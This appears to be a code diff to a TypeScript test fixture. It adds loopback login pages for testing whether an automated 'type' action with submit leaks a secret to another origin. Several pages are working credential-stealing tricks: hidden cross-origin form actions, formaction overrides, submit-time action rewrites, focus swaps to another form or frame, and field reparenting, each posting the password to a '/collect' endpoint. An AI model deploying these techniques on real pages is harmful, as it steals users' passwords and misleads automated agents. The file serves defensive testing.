@@ -1,7 +1,9 @@
 // Two loopback origins for the secrets tests. Every page reports what its fields hold (on input and
 // when it unloads) and that it loaded to its own server, so a test can tell which document ever
 // saw a value. `/leaf` on A sends itself to B's `/leaf` at the first press on its field: a
-// navigation between the check of a document and the act on it.
+// navigation between the check of a document and the act on it. The `/submit*` pages are login
+// forms for `type` with `submit: true`, some of them built to carry the secret elsewhere; every
+// form post either server receives is reported as `post <path>` with its body.
 import { type IncomingMessage, type Server, type ServerResponse, createServer } from "node:http";
 
 export interface Report {
@@ -65,6 +67,20 @@ function handle(req: IncomingMessage, res: ServerResponse, origins: string[], on
     res.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "Cache-Control": "no-store" });
     res.end(s);
   };
+  if (req.method === "POST" && u.pathname !== "/report") {
+    let body = "";
+    req.setEncoding("utf8");
+    req.on("data", (c: string) => (body += c));
+    req.on("end", () => {
+      onReport({ origin: self, ev: `post ${u.pathname}`, v: body });
+      const pw = new URLSearchParams(body).get("pw") ?? "";
+      // The landing page shows what it received: a read-back path no engine substituted.
+      html(page("Done", `<h1>Signed in</h1><p id="got">received ${pw.replace(/[<&]/g, "")}</p>`));
+    });
+    return;
+  }
+  const sub = submitPage(u.pathname, self, other, origins[0] === self);
+  if (sub) return html(sub);
   switch (u.pathname) {
     case "/report":
       onReport({ origin: self, ev: u.searchParams.get("ev") ?? "", v: u.searchParams.get("v") ?? "" });
@@ -105,5 +121,80 @@ function handle(req: IncomingMessage, res: ServerResponse, origins: string[], on
       );
     default:
       return html(page("Home", `<h1>Home</h1>`));
+  }
+}
+
+const FORM_PW = `<label>User <input id="user" name="user" aria-label="User name"></label>
+<label>Password <input id="pw" name="pw" type="password" aria-label="Password"></label>`;
+
+/** The login pages `type … submit: true` is tried on; undefined for any other path. */
+function submitPage(path: string, self: string, other: string, isA: boolean): string | undefined {
+  switch (path) {
+    case "/submit":
+      // The honest one: it posts to its own origin.
+      return page("Submit", `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>`);
+    case "/submit-elsewhere":
+      // Posts to the other origin, and hides its action from a naive reader behind a field named "action".
+      return page(
+        "Elsewhere",
+        `<form id="f" method="post" action="${other}/collect">${FORM_PW}<input type="hidden" name="action" value="/done"><button>Sign in</button></form>`,
+      );
+    case "/submit-formaction":
+      // Posts to its own origin, but its default button sends elsewhere; a field named baseURI
+      // shadows the form's base URL.
+      return page(
+        "Formaction",
+        `<form id="f" method="post" action="/done">${FORM_PW}<input type="hidden" name="baseURI" value="x"><button formaction="${other}/collect">Sign in</button></form>`,
+      );
+    case "/submit-rewrite":
+      // Points the form at the other origin from its own submit handler, after the capture phase.
+      return page(
+        "Rewrite",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<script>document.getElementById("f").addEventListener("submit", function () { this.setAttribute("action", "${other}/collect"); });</script>`,
+      );
+    case "/submit-swap":
+      // Once the secret is in, moves the focus to another password field, whose form posts elsewhere.
+      return page(
+        "Swap",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
+<script>document.getElementById("pw").addEventListener("input", () => document.getElementById("pw2").focus());</script>`,
+      );
+    case "/submit-swap-key":
+      // Lets the Enter's keydown through to the field, then moves the focus to another password
+      // field before its keypress (which is what submits).
+      return page(
+        "Swap at the key",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<form id="g" method="post" action="${other}/collect"><label>New password <input id="pw2" name="pw" type="password" aria-label="New password"></label><button>Change</button></form>
+<script>document.getElementById("pw").addEventListener("keydown", (e) => { if (e.key === "Enter") document.getElementById("pw2").focus(); });</script>`,
+      );
+    case "/submit-reparent":
+      // Once the secret is in, hands the field to another form (the form attribute), which posts elsewhere.
+      return page(
+        "Reparent",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<form id="g" method="post" action="${other}/collect"><button>Other</button></form>
+<script>document.getElementById("pw").addEventListener("input", (e) => e.target.setAttribute("form", "g"));</script>`,
+      );
+    case "/submit-frame":
+      // Once the secret is in, moves the focus into the other origin's frame, whose password field takes it.
+      return page(
+        "Swap frame",
+        `<form id="f" method="post" action="/done">${FORM_PW}<button>Sign in</button></form>
+<iframe id="other" title="Other origin" src="${other}/submit-inner" width="300" height="80"></iframe>
+<script>document.getElementById("pw").addEventListener("input", () => document.getElementById("other").contentWindow.focus());</script>`,
+      );
+    case "/submit-inner":
+      return isA
+        ? undefined
+        : page(
+            "Inner form",
+            `<form method="post" action="/collect"><input id="bpw" name="pw" type="password" aria-label="Inner password"><button>Go</button></form>
+<script>addEventListener("focus", () => document.getElementById("bpw").focus());</script>`,
+          );
+    default:
+      return undefined;
   }
 }
